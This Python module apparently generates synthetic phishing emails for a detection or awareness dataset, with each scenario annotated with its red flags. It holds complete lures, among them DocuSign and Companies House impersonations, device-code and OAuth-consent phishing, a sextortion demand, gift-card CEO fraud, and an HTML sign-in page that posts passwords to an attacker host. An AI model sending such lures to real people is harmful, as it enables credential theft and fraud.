# -*- coding: utf-8 -*-
"""Attacks, English (09-16)."""
from .common import *  # noqa: F401,F403
from .common import S, H, loc, ol_alt, outlook_html, ol_p, pdf_doc, gmail_html, ics_dt, ics_fold, ics_local
from .orgs import PEN
from lib import util, checks as K, systems as SY
from lib.message import scenario


def docusign_html(sender_name, sender_mail, doc_title, msg, link, brand_footer=True, code=None):
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>'
            '<body style="padding:0;margin:0;background:#eaeaea"><table width="100%%" cellpadding="0" cellspacing="0" '
            'style="background:#eaeaea"><tr><td align="center" style="padding:20px 0">'
            '<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif">'
            '<tr><td style="padding:24px 24px 0 24px"><img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png" alt="DocuSign" width="116" height="34"></td></tr>'
            '<tr><td style="padding:24px"><table width="100%%" style="background:#1e4ca1;color:#ffffff" cellpadding="0" cellspacing="0">'
            '<tr><td align="center" style="padding:28px 24px;font-size:16px;line-height:24px">'
            '<img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/icon-documents-white.png" width="75" height="75" alt=""><br><br>'
            '%s sent you a document to review and sign.<br><br>'
            '<a href="%s" style="background:#ffc423;color:#333333;font-weight:bold;font-size:15px;text-decoration:none;padding:12px 24px;border-radius:2px;display:inline-block">REVIEW DOCUMENT</a>'
            '</td></tr></table></td></tr>'
            '<tr><td style="padding:0 24px 24px 24px;font-size:15px;color:#333333;line-height:20px"><b>%s</b><br>'
            '<a href="mailto:%s" style="color:#2463d1">%s</a><br><br>%s</td></tr>'
            '<tr><td style="padding:20px 24px;background:#f4f4f4;font-size:11px;color:#666666;line-height:16px">'
            '<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>'
            '<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br>'
            'This message was sent to you by %s who is using the Docusign Electronic Signature Service.</td></tr>'
            '</table></td></tr></table></body></html>' % (H(sender_name), H(link), H(sender_name), sender_mail, sender_mail,
                                                         H(msg).replace("\n", "<br>"), H(sender_name)))


# ---------------------------------------------------------------------------------------------
@scenario("attack", 9, "en", "docusign-fake-supply-agreement")
def a09(m):
    m.at("UK", 2026, 10, 15, 15, 27)
    m.mua = "sendgrid"
    link = ("https://url4821.esign-notification.com/ls/click?upn=u001.qX7dP2kR9vLmN3aT5bW8cYhJ0fGtS4eZ1uK6iOoQxE-2BrVnMlC7yHwDp"
            "9sA3gFjUtB5zXk-2FeN8qLmR0vWc4YiT6oPbS1dHaKfGj2lE7uZnM3rQ9xVyC5tBw8sJ0hL4kN6pD1gFa")
    m.url(link)
    msg = ("Hello Daniel,\n\nPlease review and sign the 2027 supply agreement (own-label still and sparkling, 0.5 l and 1.5 l PET). "
           "Prices are as agreed in our call last week.\n\nMany thanks,\nOliver Hughes\nPennine Drinks Wholesale Ltd")
    html = docusign_html("Oliver Hughes", "oliver.hughes@penninedrinks.co.uk", "Supply Agreement 2027", msg, link)
    plain = ("Oliver Hughes sent you a document to review and sign.\n\nREVIEW DOCUMENT <%s>\n\nOliver Hughes\n"
             "oliver.hughes@penninedrinks.co.uk\n\n%s\n\nDo Not Share This Email\nThis email contains a secure link to "
             "Docusign. Please do not share this email, link, or access code with others.\n" % (link, msg))
    body = m.alt(m.plain(plain, "utf-8", "quoted-printable"), m.html(html, "utf-8", "quoted-printable"))
    m.send(body, ("Oliver Hughes via Docusign", "dse@esign-notification.com"), [S["export"]],
           "Complete with Docusign: Supply Agreement 2027 - Example Group UK Ltd.pdf",
           SY.sendgrid(custom_dom="esign-notification.com", custom_sel="s1"),
           reply_to=("Oliver Hughes", "oliver.hughes@penninedrinks.co.uk"),
           env_from="bounces+38214765-7f2a-daniel.hartmann=examplegroup.eu@em4821.esign-notification.com")
    m.what = ("Docusign-style 'Complete with Docusign' notice: the UK customer's buyer sent the 2027 supply agreement "
              "for signature; yellow REVIEW DOCUMENT button.")
    m.why = ("Fake e-signature notice: sent through SendGrid from the attacker's domain esign-notification.com (not docusign.net), "
             "the button is a SendGrid click-tracking link on that domain leading to a credential page, no access code, "
             "Reply-To set to the real buyer to look legitimate; the genuine envelope (business/09) comes from docusign.net.")


# ---------------------------------------------------------------------------------------------
@scenario("attack", 10, "en", "teams-invite-device-code")
def a10(m):
    m.at("UK", 2026, 11, 10, 13, 52)
    m.mua = "m365"
    code = "FX7TJ6WGL"
    m.fact("ids", ("device code", code))
    dl = m.url("https://microsoft.com/devicelogin")
    frm = ("Rebecca Shaw", "r.shaw@harrogate-events.co.uk")
    start = util.from_local("UK", 2026, 11, 10, 14, 0, 0)
    end = util.plus(start, 1800)
    text = ("Hi Daniel,\n\n"
            "Thanks again for confirming Example Group's stand (Hall 2, B14) at the Northern Food & Drink Expo 2027. "
            "We are running the exhibitor briefing for the drinks pavilion in a few minutes – floor plan, "
            "load-in slots and the sampling licence.\n\n"
            "Because the briefing includes the exhibitor badge data, the meeting room is protected. To join:\n\n"
            "1. Open %s\n"
            "2. Enter the code: %s\n"
            "3. Sign in with your work account – the Teams meeting then opens automatically.\n\n"
            "The code is only valid for 15 minutes, so please join straight away at 14:00.\n\n"
            "Best wishes,\nRebecca\n\nRebecca Shaw\nExhibitor Relations Manager\nHarrogate Events Ltd\n"
            "Tel +44 1423 496 0215\n" % (dl, code))
    m.phone("+44 1423 496 0215")
    ics = ("BEGIN:VCALENDAR\nMETHOD:REQUEST\nPRODID:Microsoft Exchange Server 2010\nVERSION:2.0\nBEGIN:VEVENT\n"
           "ORGANIZER;CN=Rebecca Shaw:mailto:r.shaw@harrogate-events.co.uk\n"
           "ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Daniel Hartmann:mailto:daniel.hartmann@examplegroup.eu\n"
           "DESCRIPTION;LANGUAGE=en-GB:Exhibitor briefing – drinks pavilion\\n\\nJoin: %s – code %s\\n\n"
           "UID:040000008200E00074C5B7101A82E00800000000%s\nSUMMARY;LANGUAGE=en-GB:Exhibitor briefing – Northern Food & Drink Expo 2027\n"
           "DTSTART:%s\nDTEND:%s\nCLASS:PUBLIC\nPRIORITY:5\nDTSTAMP:%s\nTRANSP:OPAQUE\nSTATUS:CONFIRMED\nSEQUENCE:0\n"
           "LOCATION;LANGUAGE=en-GB:Microsoft Teams Meeting\nBEGIN:VALARM\nDESCRIPTION:REMINDER\nTRIGGER;RELATED=START:-PT15M\n"
           "ACTION:DISPLAY\nEND:VALARM\nEND:VEVENT\nEND:VCALENDAR" % (dl, code, util.hexs(m.rng, 48, True), ics_dt(start), ics_dt(end), ics_dt(m.date)))
    cal = m.plain(ics_fold(ics).replace("\r\n", "\n"), "utf-8", "base64")
    cal.headers[0] = ("Content-Type", 'text/calendar; charset="utf-8"; method=REQUEST')
    cal.meta["subtype"] = "calendar"
    body = m.alt(m.plain(text, "utf-8", "quoted-printable"),
                 m.html(outlook_html(ol_p(text), "utf-8", "en"), "utf-8", "quoted-printable"), cal)
    m.send(body, frm, [S["export"]], "Exhibitor briefing – Northern Food & Drink Expo 2027 (starts 14:00)",
           SY.m365(domain="harrogate-events.co.uk", lang="en-GB"))
    m.what = ("Teams-style invitation from an event organiser for an 'exhibitor briefing' starting in 8 minutes; to join, "
              "open microsoft.com/devicelogin and enter a code.")
    m.why = ("Device-code phishing: the code was generated by the attacker, entering it and signing in hands the "
             "attacker an OAuth token for the victim's account; the only link is Microsoft's genuine page, sent from a "
             "compromised Microsoft 365 mailbox (SPF/DKIM/DMARC pass); Teams meetings never need a device code, 15-minute urgency.")


# ---------------------------------------------------------------------------------------------
@scenario("attack", 11, "en", "oauth-consent-onedrive-share")
def a11(m):
    m.at("UK", 2026, 11, 17, 10, 14)
    m.mua = "gworkspace"
    frm = ("James Porter", "j.porter@lakesidecatering.co.uk")
    link = ("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=7d4c9a1e-2f6b-4e83-9c05-b1a8f3d26e47"
            "&response_type=code&redirect_uri=https%3A%2F%2Fdocviewer-secure.app%2Foauth%2Fcallback&response_mode=query"
            "&scope=offline_access%20openid%20User.Read%20Mail.ReadWrite%20Mail.Send%20Files.ReadWrite.All&state=ONEDRIVE-8812")
    m.url(link)
    text = ("Hi James,\n\n"
            "Following our call, I've put the revised 2027 pricing for the staff restaurants (water and soft drinks) "
            "into a shared workbook. Could you check the volumes for Trafford Park and confirm the PO numbers before "
            "Friday?\n\n"
            "Catering Contract Pricing 2027.xlsx (OneDrive)\n"
            "Open: %s\n\n"
            "It will ask you to allow the viewer once, that's normal for external shares.\n\n"
            "Thanks,\nJames\n\nJames Porter | Purchasing Manager\nLakeside Catering Ltd\nT 0161 496 0384\n" % link)
    m.phone("0161 496 0384")
    html = ('<div dir="ltr"><div>Hi James,</div><div><br></div><div>Following our call, I&#39;ve put the revised 2027 pricing for the staff '
            'restaurants (water and soft drinks) into a shared workbook. Could you check the volumes for Trafford Park and confirm '
            'the PO numbers before Friday?</div><div><br></div>'
            '<table cellpadding="0" cellspacing="0" style="border:1px solid #e1e1e1;border-radius:4px"><tr><td style="padding:12px 16px;font-family:Segoe UI,Arial,sans-serif">'
            '<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/32/xlsx.png" width="32" height="32" alt="" style="vertical-align:middle"> '
            '<a href="%s" style="font-size:15px;color:#0f6cbd;text-decoration:none"><b>Catering Contract Pricing 2027.xlsx</b></a><br>'
            '<span style="font-size:12px;color:#616161">OneDrive · shared with you</span></td></tr></table>'
            '<div><br></div><div>It will ask you to allow the viewer once, that&#39;s normal for external shares.</div><div><br></div>'
            '<div>Thanks,</div><div>James</div><div><br></div><span class="gmail_signature_prefix">-- </span><br>'
            '<div dir="ltr" class="gmail_signature"><div dir="ltr">James Porter | Purchasing Manager<br>Lakeside Catering Ltd<br>T 0161 496 0384</div></div></div>\n' % H(link))
    body = m.alt(m.plain(text, "UTF-8", "quoted-printable"), m.html(html, "UTF-8", "quoted-printable"))
    m.send(body, frm, [S["uk_acc"]], "Catering pricing 2027 – please check volumes", SY.gmail(workspace_dom="lakesidecatering.co.uk"))
    m.what = ("A catering customer's purchasing manager shares 'Catering Contract Pricing 2027.xlsx' via 'OneDrive'; "
              "the link opens a Microsoft sign-in page that asks to 'allow the viewer'.")
    m.why = ("OAuth consent phishing: the link is a genuine login.microsoftonline.com authorize URL for an attacker-registered "
             "app (redirect to docviewer-secure.app) requesting offline_access, Mail.ReadWrite, Mail.Send and "
             "Files.ReadWrite.All; sent from a compromised Google Workspace mailbox of a real customer, so all checks pass; "
             "'it will ask you to allow' primes the consent click.")


# ---------------------------------------------------------------------------------------------
@scenario("attack", 12, "en", "callback-antivirus-renewal")
def a12(m):
    m.at("UK", 2026, 10, 26, 9, 3)
    m.mua = "gmail"
    phone = m.phone("+44 20 7946 0817")
    frm = ("Billing Support Team", "billingdesk.renewals.uk@gmail.com")
    text = ("Dear Customer,\n\n"
            "Thank you for your continued trust. Your annual subscription has been renewed successfully and the amount "
            "will be debited from your account within 24 hours.\n\n"
            "Invoice No.: INV-88213-UK\n"
            "Product: Total Security 360 – Premium (5 devices)\n"
            "Term: 1 Year\n"
            "Amount: GBP 389.99\n"
            "Payment method: Auto-debit\n\n"
            "If you did not authorise this renewal or wish to cancel and receive a full refund, please contact our "
            "billing department within 24 hours on %s (Mon–Sat, 8am–8pm).\n\n"
            "Kind regards,\nBilling Support Team\n" % phone)
    d = pdf_doc("helv", producer="Microsoft: Print To PDF", title="INV-88213-UK", when=util.plus(m.date, -5000), tz_min=0)
    d.letterhead("Total Security 360", ["Customer Billing Centre · Subscription Services"], color=(0.8, 0.1, 0.1),
                 right_lines=("INVOICE", "INV-88213-UK", "Date: 26/10/2026"))
    d.kv([("Bill to", "sarah.thompson@examplegroup.eu"), ("Customer ID", "TS-UK-7719283"), ("Payment", "Auto-debit (card on file)")], keyw=110)
    d.table(["Description", "Qty", "Term", "Amount"], [["Total Security 360 – Premium, 5 devices", "1", "12 months", "GBP 389.99"],
                                                       ["Cloud Backup 500 GB", "1", "12 months", "included"]],
            [250, 40, 90, 103], ["l", "r", "l", "r"])
    d.kv([("Total", "GBP 389.99")], keyw=350)
    d.space(10)
    d.para("To cancel this transaction and request a refund, call our helpline within 24 hours:", 11, True)
    d.para(phone, 18, True, (0.8, 0.1, 0.1))
    d.para("Refunds can only be processed by phone with your Customer ID.", 9)
    pdfb = d.build()
    from lib import png as _png
    cid = "ii_m%s" % util.alnum(m.rng, 8, "abcdefghijklmnopqrstuvwxyz0123456789")
    banner = _png.logo("banner", w=480, h=60, color=(200, 24, 30), accent=(250, 200, 60))
    html = ('<div dir="ltr"><div><img src="cid:%s" alt="Total Security 360" width="480" height="60"><br></div>' % cid) + gmail_html(text)[len('<div dir="ltr">'):]
    body = m.mixed(m.related(m.alt(m.plain(text, "UTF-8", "quoted-printable"), m.html(html, "UTF-8", "quoted-printable")),
                             m.inline_img(banner, "image.png", cid)),
                   m.attach(pdfb, "application/pdf", "INV-88213-UK.pdf"))
    m.send(body, frm, [S["uk_om"]], "Your subscription has been renewed – Invoice INV-88213-UK", SY.gmail())
    m.what = "Renewal invoice for a 'Total Security 360' antivirus subscription (GBP 389.99) with a refund hotline."
    m.why = ("Callback phishing (TOAD): no link, the goal is the phone call where 'refund' agents install remote-access "
             "tools or take card details; generic greeting, free-mail sender, product the office never bought, 24-hour pressure, "
             "phone number only in text and PDF.")


# ---------------------------------------------------------------------------------------------
@scenario("attack", 13, "en", "companies-house-penalty")
def a13(m):
    m.at("UK", 2026, 12, 2, 8, 31)
    m.mua = "generic"
    link = m.url("https://find-and-update.companieshouse-service.uk/company/11873402/penalty?ref=PEN4R7K2Q")
    text = ("Companies House\n\n"
            "Late filing penalty – action required\n\n"
            "Company name: EXAMPLE GROUP UK LTD\nCompany number: 11873402\nPenalty reference: PEN4R7K2Q\n\n"
            "Our records show that the confirmation statement for the above company was not delivered by the due date. "
            "Under section 853A of the Companies Act 2006 a late filing penalty of £375.00 has been issued.\n\n"
            "To avoid escalation to a higher penalty and possible action to strike the company off the register, "
            "pay online within 7 days:\n\n%s\n\n"
            "You will need the penalty reference and a debit or credit card.\n\n"
            "Companies House\nCrown Way, Cardiff, CF14 3UZ\n\n"
            "This is an automated message. Please do not reply.\n" % link)
    html = ('<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:19px;color:#0b0c0c">'
            '<table width="100%%" cellpadding="0" cellspacing="0" style="background:#0b0c0c"><tr><td style="padding:10px 20px;color:#ffffff;font-size:28px;font-weight:700">'
            'GOV.UK</td></tr></table><table width="580" align="center" cellpadding="0" cellspacing="0"><tr><td style="padding:20px 10px">'
            '<p style="font-size:24px;font-weight:700">Late filing penalty – action required</p>'
            '<p>Company name: EXAMPLE GROUP UK LTD<br>Company number: 11873402<br>Penalty reference: PEN4R7K2Q</p>'
            '<p>Our records show that the confirmation statement for the above company was not delivered by the due date. '
            'Under section 853A of the Companies Act 2006 a late filing penalty of &pound;375.00 has been issued.</p>'
            '<p>To avoid escalation to a higher penalty and possible action to strike the company off the register, pay online within 7 days:</p>'
            '<p><a href="%s" style="color:#1d70b8">Pay the penalty</a></p>'
            '<p>You will need the penalty reference and a debit or credit card.</p>'
            '<p>Companies House<br>Crown Way, Cardiff, CF14 3UZ</p><p style="font-size:14px;color:#505a5f">This is an automated message. Please do not reply.</p>'
            '</td></tr></table></body></html>' % H(link))
    body = m.alt(m.plain(text, "utf-8", "quoted-printable"), m.html(html, "utf-8", "quoted-printable"))
    m.send(body, ("Companies House", "noreply@companieshouse-service.uk"), [S["uk_acc"]],
           "Late filing penalty issued – EXAMPLE GROUP UK LTD (11873402)",
           SY.mailgun("mg.companieshouse-service.uk"), env_from="bounce+7f3a21.5c8d-james.whitfield=example.com@mg.companieshouse-service.uk")
    m.what = ("GOV.UK-styled 'Companies House' notice of a £375 late-filing penalty for the UK subsidiary with a pay-online link.")
    m.why = ("Authority impersonation from companieshouse-service.uk via Mailgun (real Companies House mail comes through "
             "GOV.UK Notify and links to company-information.service.gov.uk, see business/13; penalties are sent by post); "
             "card-payment page on the look-alike domain, strike-off threat, 7-day deadline; company number is public data.")


# ---------------------------------------------------------------------------------------------
@scenario("attack", 14, "en", "fake-rfq-html-attachment")
def a14(m):
    m.at("UK", 2026, 10, 21, 6, 18)
    m.mua = "thunderbird"
    frm = ("Procurement – Al Noor Hospitality Group", "procurement@alnoor-hospitality.com")
    action = m.url("https://rfq-docs-viewer.cloud/anh/submit.php")
    text = ("Dear Sir/Madam,\n\n"
            "Al Noor Hospitality Group (Doha, Qatar) invites Example Group to submit a quotation for the supply of natural "
            "mineral water for our 14 hotels and serviced apartments for the period January–December 2027.\n\n"
            "Estimated annual volume: 2.4 million bottles (0.33 l glass, 0.5 l and 1.5 l PET), still and sparkling, "
            "delivered CIF Hamad Port.\n\n"
            "The RFQ documents (technical specification, Bill of Quantities and commercial terms) are attached as a "
            "secured file. Please open the attachment and sign in with your company e-mail to view and download the "
            "documents.\n\n"
            "Closing date for offers: 06 November 2026, 12:00 AST.\n\n"
            "Best regards,\n\nKhalid Al-Mansouri\nSenior Procurement Officer\nAl Noor Hospitality Group\n"
            "P.O. Box 24871, West Bay, Doha – Qatar\nTel: +974 4412 8830\n")
    m.phone("+974 4412 8830")
    page = ('<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>RFQ ANH-2026-1187 | Secure Document</title>'
            '<meta name="viewport" content="width=device-width, initial-scale=1"><style>body{margin:0;font-family:Segoe UI,Arial,sans-serif;'
            'background:#f0f2f5}.box{width:380px;margin:70px auto;background:#fff;padding:32px;box-shadow:0 2px 6px rgba(0,0,0,.2)}'
            'h1{font-size:20px;font-weight:600;margin:0 0 6px}p{font-size:13px;color:#555}input{width:100%%;box-sizing:border-box;'
            'padding:9px;margin:8px 0;border:1px solid #8a8886}button{background:#0067b8;color:#fff;border:0;padding:10px 24px;'
            'font-size:15px;float:right}.doc{border:1px solid #ddd;padding:8px;font-size:13px;margin:14px 0}</style></head><body>'
            '<div class="box"><h1>Secure document</h1><p>RFQ ANH-2026-1187 – Natural Mineral Water Supply 2027 (3 files, 4.8 MB)</p>'
            '<div class="doc">&#128196; Technical_Specification_Water_2027.pdf<br>&#128196; Bill_of_Quantities_ANH-1187.xlsx<br>'
            '&#128196; Commercial_Terms_and_Conditions.pdf</div><p>To view the documents, verify your identity with the e-mail '
            'account this invitation was sent to.</p><form method="post" action="%s">'
            '<input type="email" name="login" value="daniel.hartmann@examplegroup.eu" readonly>'
            '<input type="password" name="passwd" placeholder="Password" required>'
            '<input type="hidden" name="ref" value="ANH-2026-1187"><button type="submit">View documents</button></form>'
            '<div style="clear:both"></div></div></body></html>\n' % action)
    body = m.mixed(m.alt(m.plain(text, "UTF-8", "8bit", style="bare", params="; format=flowed"),
                         m.html(tb_html_wrap(text), "UTF-8", "8bit")),
                   m.attach(page.encode("utf-8"), "text/html", "RFQ_ANH-2026-1187_Natural_Mineral_Water.html", cte="base64"))
    m.send(body, frm, [S["export"]], "Request for Quotation ANH-2026-1187 – Natural Mineral Water Supply 2027",
           SY.vps_postfix("mail.alnoor-hospitality.com", "161.97.142.58", rdns="vmi2281734.contaboserver.net",
                          dkim_sel="mail", client_ip="102.89.46.17", client="DESKTOP-4KQ7RM2", tls="1.3"))
    m.what = ("Request for quotation from a Qatari hotel group for 2.4 million bottles in 2027; the 'secured RFQ documents' "
              "are an attached HTML file.")
    m.why = ("HTML-attachment credential lure: the file is a local sign-in page pre-filled with the recipient's address that "
             "posts the password to rfq-docs-viewer.cloud; newly registered hotel-group domain on a Contabo VPS, "
             "sender IP in Nigeria, generic 'Dear Sir/Madam', attractive export volume.")


def tb_html_wrap(text):
    from .common import tb_html
    return tb_html(text)


# ---------------------------------------------------------------------------------------------
@scenario("attack", 15, "en", "sextortion-bitcoin")
def a15(m):
    m.at("UK", 2026, 12, 5, 3, 12)
    m.mua = "generic"
    prog = bytes(m.rng.randrange(256) for _ in range(20))
    wallet = K.bech32_p2wpkh(list(prog))
    m.fact("wallets", wallet)
    victim = S["export"]
    text = ("Hello Daniel,\n\n"
            "I have to share bad news with you.\n"
            "Approximately a few months ago I have gained access to your devices, which you use for internet browsing.\n"
            "After that, I have started tracking your internet activities.\n\n"
            "Here is the sequence of events:\n"
            "Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase it online).\n"
            "Obviously, I have easily managed to log in to your email account (daniel.hartmann@examplegroup.eu).\n\n"
            "One week later, I have already installed Trojan virus to Operating Systems of all the devices that you use to access your email.\n"
            "In fact, it was not really hard at all (since you were following the links from your inbox emails).\n"
            "All ingenious is simple. =)\n\n"
            "This software provides me with access to all the controllers of your devices (e.g., your microphone, video camera and keyboard).\n"
            "I have downloaded all your information, data, photos, web browsing history to my servers.\n"
            "I have access to all your messengers, social networks, emails, chat history and contacts list.\n\n"
            "My virus continuously refreshes the signatures (it is driver-based), and hence remains invisible for antivirus software.\n\n"
            "I made a double-screen video. First part shows the video you were watching (you have a good taste haha . . .), "
            "and second part shows the recording of your web camera.\n\n"
            "If you want me to delete it, transfer 1450 USD in Bitcoin to my wallet:\n%s\n\n"
            "After receiving the payment, I will delete the video and you will never hear from me again.\n"
            "You have 48 hours (2 days) to make the payment. I receive a notification as soon as you read this email.\n\n"
            "Do not try to contact me, this address was used only once. Do not go to the police - I will see it immediately.\n" % wallet)
    body = m.plain(text, "us-ascii", "7bit", style="bare")
    m.send(body, ("Daniel Hartmann", victim[1]), [victim], "Your account has been compromised – " + victim[1],
           SY.postfix_relay("mail.silveiraautopecas.com.br", "177.47.28.114", "177.47.28.114", client_helo="localhost",
                            amavis=False, dkim_sel=None, client_tls=False, zone="UTC", tls=None,
                            mx_helo="mail.silveiraautopecas.com.br", local_pickup=True),
           env_from="contato@silveiraautopecas.com.br")
    m.what = "Sextortion: 'I infected your devices and recorded you', 1,450 USD in bitcoin within 48 hours; From and To are the victim."
    m.why = ("Mass sextortion with the victim's own address forged as From (DMARC fail for examplegroup.eu, envelope from a "
             "compromised Brazilian server), bech32 wallet, bluff with no personal evidence, threats and deadline.")


# ---------------------------------------------------------------------------------------------
@scenario("attack", 16, "en", "ceo-gift-cards-uk-office")
def a16(m):
    m.at("UK", 2026, 12, 10, 9, 48)
    m.mua = "gmail"
    frm = ("Matthias Krüger", "matthias.krueger.exgroup@gmail.com")
    text = ("Hi Sarah,\n\n"
            "Are you at your desk? I need a quick favour. I'm stuck in back-to-back meetings with the Pennine team "
            "and can't take calls.\n\n"
            "I want to surprise a few of our key customers' buyers before Christmas. Could you pick up 10 Apple gift "
            "cards of £100 each at the Tesco or Currys near the office? Keep the receipt, it will be reimbursed through "
            "your expenses this month.\n\n"
            "Once you have them, scratch off the back, take a clear photo of each card with the code and email them to "
            "me here. Please keep this between us for now, it's a surprise.\n\n"
            "Thanks\nMatthias\n\nSent from my iPhone")
    body = m.alt(m.plain(text, "UTF-8", "quoted-printable"), m.html(gmail_html(text), "UTF-8", "quoted-printable"))
    m.send(body, frm, [S["uk_om"]], "Quick favour", SY.gmail())
    m.what = "'CEO' asks the UK office manager to buy ten £100 Apple gift cards for customers and send photos of the codes."
    m.why = ("Gift-card BEC: CEO's name on a new Gmail address, 'can't take calls', secrecy, codes to be photographed and "
             "mailed back; the real CEO writes from matthias.krueger@example.com via Exchange and uses the approved supplier "
             "(see business/16).")
